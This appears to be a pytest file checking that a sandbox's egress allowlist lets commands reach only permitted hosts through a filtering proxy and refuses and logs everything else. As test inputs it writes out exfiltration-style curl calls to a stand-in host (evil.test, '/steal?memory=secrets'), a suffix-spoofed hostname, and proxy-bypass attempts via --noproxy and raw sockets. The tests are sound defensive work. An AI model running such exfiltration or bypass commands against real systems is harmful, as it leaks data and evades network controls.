"""The egress policy of sandboxed commands (bwrap, as `antler up` runs them): an allowlist reached
through the broker's filtering proxy, everything else refused and logged with the run.

No test may use DNS, so the allowed name is pinned to the loopback test server with the
deployment's `egress.hosts` (the operator's pinning of a name to an address, e.g. an internal
mirror). The policy still decides by name first, and a name that is not pinned is resolved and
checked by the SSRF guard exactly as in production: `localhost` (resolved from /etc/hosts, no
DNS) is refused for being loopback even when allowed.
"""

from __future__ import annotations

import asyncio
import logging
import ssl
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from bus.messages import EgressPolicy
from config import AppConfig
from sandbox import SandboxClient
from tests.fakes.duckduckgo import _certificates
from tests.support.sandbox import needs_bwrap, running_broker

pytestmark = pytest.mark.asyncio

ALLOWED = "files.allowed.test"


class Site:
    """A loopback HTTP server answering every request with what it was asked, counting connections."""

    def __init__(self, tls: ssl.SSLContext | None = None) -> None:
        self.connections = 0
        self.requests: list[str] = []
        self.port = 0
        self.tls = tls
        self._server: asyncio.Server | None = None

    async def __aenter__(self) -> Site:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=self.tls)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self._server is not None
        self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            self.requests.append(head)
            host = next(line for line in head.split("\r\n") if line.lower().startswith("host:"))
            body = f"hello from the allowed site ({head.split()[1]}, {host})".encode()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
            await writer.drain()
        finally:
            writer.close()


@pytest_asyncio.fixture
async def site() -> AsyncIterator[Site]:
    async with Site() as served:
        yield served


@pytest_asyncio.fixture
async def egress_broker(
    nats_url: str, sandbox_config: dict[str, Any], site: Site
) -> AsyncIterator[AppConfig]:
    from config.loader import _build

    data = {
        **sandbox_config,
        "sandbox": {**sandbox_config["sandbox"], "provider": "bwrap"},
        "egress": {
            "mode": "allowlist",
            "allow": ["allowed.test", "localhost"],
            "hosts": {ALLOWED: "127.0.0.1", "evil.test": "127.0.0.1"},
        },
    }
    config = _build(AppConfig, data, "test config")
    async with running_broker(nats_url, config):
        yield config


def policy(config: AppConfig) -> EgressPolicy:
    from access.egress import egress_policy

    return egress_policy(config, None)


@needs_bwrap
async def test_curl_reaches_an_allowed_domain_through_the_proxy(
    client: SandboxClient, egress_broker: AppConfig, site: Site
) -> None:
    result = await client.exec(
        f"curl -sS --max-time 20 http://{ALLOWED}:{site.port}/pkg/index.html", egress=policy(egress_broker)
    )
    assert result.exit_code == 0, result.output
    assert "hello from the allowed site (/pkg/index.html" in result.output
    assert f"{ALLOWED}:{site.port}" in result.output  # the Host header went through as the URL's
    assert not [w for w in result.warnings if w.startswith("network:")]


PYTHON_GET = (
    "import ssl, urllib.request; context = ssl.create_default_context(cafile='ca.pem'); "
    "print(urllib.request.urlopen('{url}', context=context, timeout=20).read().decode())"
)


@needs_bwrap
@pytest.mark.parametrize(
    "client_command",
    [
        pytest.param("curl -sS --max-time 20 --cacert ca.pem {url}", id="curl"),
        # Python's own client (pip's urllib3 tunnels the same way): CONNECT as HTTP/1.0, no Host.
        pytest.param(f'python3 -c "{PYTHON_GET}"', id="python-urllib"),
    ],
)
async def test_https_to_an_allowed_domain_goes_through_a_tunnel_for_that_name(
    client: SandboxClient, egress_broker: AppConfig, tmp_path: Path, client_command: str
) -> None:
    ca, cert, key = _certificates(tmp_path, (ALLOWED,))
    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    tls.load_cert_chain(cert, key)
    async with Site(tls) as secure:
        await client.write_file("/mnt/user-data/workspace/ca.pem", ca.read_text())
        url = f"https://{ALLOWED}:{secure.port}/secure"
        result = await client.exec(client_command.format(url=url), egress=policy(egress_broker))
    assert result.exit_code == 0, result.output
    assert "hello from the allowed site (/secure" in result.output


@needs_bwrap
async def test_a_tunnel_that_is_not_tls_is_refused_under_an_allowlist(
    client: SandboxClient, egress_broker: AppConfig, site: Site
) -> None:
    # --proxytunnel: plain http inside CONNECT; what it asks for (its Host) could be any site behind
    # the allowed name's address, so only TLS naming that name may use a tunnel.
    result = await client.exec(
        f"curl -sS --max-time 20 --proxytunnel http://{ALLOWED}:{site.port}/tunnel",
        egress=policy(egress_broker),
    )
    assert "hello from the allowed site" not in result.output
    assert site.connections == 0
    assert any("must carry TLS" in w for w in result.warnings), result.warnings


@needs_bwrap
@pytest.mark.parametrize(
    ("url", "why"),
    [
        pytest.param(
            "http://evil.test:{port}/steal?memory=secrets", "not on the egress allowlist", id="http"
        ),
        pytest.param("https://evil.test:{port}/", "not on the egress allowlist", id="https-connect"),
        pytest.param(
            "http://allowed.test.evil.test:{port}/", "not on the egress allowlist", id="suffix-trick"
        ),
        pytest.param("http://localhost:{port}/", "loopback", id="allowed-name-on-loopback"),
        pytest.param("http://127.0.0.1:{port}/", "not on the egress allowlist", id="literal-address"),
    ],
)
async def test_any_other_destination_is_refused_and_logged_with_the_run(
    client: SandboxClient,
    egress_broker: AppConfig,
    site: Site,
    caplog: pytest.LogCaptureFixture,
    url: str,
    why: str,
) -> None:
    caplog.set_level(logging.WARNING, logger="access.egress")
    result = await client.exec(
        f"curl -sS --max-time 20 {url.format(port=site.port)}; echo exit=$?",
        egress=policy(egress_broker),
        run_id="run-exfil-1",
    )
    assert "hello from the allowed site" not in result.output
    assert site.connections == 0  # refused before any connection
    refusals = [w for w in result.warnings if w.startswith("network: refused")]
    assert refusals, result.warnings
    assert why in refusals[0]
    logged = [r.getMessage() for r in caplog.records if "egress refused" in r.getMessage()]
    assert logged
    assert "run run-exfil-1" in logged[0]
    assert why in logged[0]


@needs_bwrap
async def test_no_connection_goes_around_the_proxy(
    client: SandboxClient, egress_broker: AppConfig, site: Site
) -> None:
    code = f"import socket; socket.create_connection(('127.0.0.1', {site.port}), 2); print('CONNECTED')"
    result = await client.exec(
        f"curl -sS --max-time 5 --noproxy '*' http://{ALLOWED}:{site.port}/; python3 -c \"{code}\"",
        egress=policy(egress_broker),
    )
    assert "CONNECTED" not in result.output
    assert "hello from the allowed site" not in result.output
    assert site.connections == 0


@needs_bwrap
async def test_a_role_without_network_gets_none_and_mode_all_shares_the_hosts(
    client: SandboxClient, egress_broker: AppConfig, site: Site
) -> None:
    none = EgressPolicy(mode="none", source="access.roles.guest.egress")
    result = await client.exec(
        f"curl -sS --max-time 5 http://{ALLOWED}:{site.port}/; echo exit=$?", egress=none
    )
    assert "hello from the allowed site" not in result.output
    assert "exit=0" not in result.output
    everything = EgressPolicy(mode="all")
    result = await client.exec(
        f"curl -sS --max-time 20 --noproxy '*' http://127.0.0.1:{site.port}/direct", egress=everything
    )
    assert "hello from the allowed site (/direct" in result.output


@needs_bwrap
async def test_a_command_looping_over_refused_hosts_floods_neither_its_result_nor_the_log(
    client: SandboxClient, egress_broker: AppConfig, site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="access")
    loop = f"for i in $(seq 30); do curl -s --max-time 5 http://h$i.evil.test:{site.port}/; done; echo done"
    result = await client.exec(loop, egress=policy(egress_broker), run_id="run-loop")
    assert result.output.strip().endswith("done")
    refused = [w for w in result.warnings if w.startswith("network:")]
    assert len(refused) == 6
    assert refused[-1] == "network: 25 more connections were refused"
    logged = [r.getMessage() for r in caplog.records if "run-loop" in r.getMessage()]
    assert len(logged) == 21  # twenty refusals, then one line saying the rest are only counted
    assert "further ones are counted, not logged" in logged[-1]
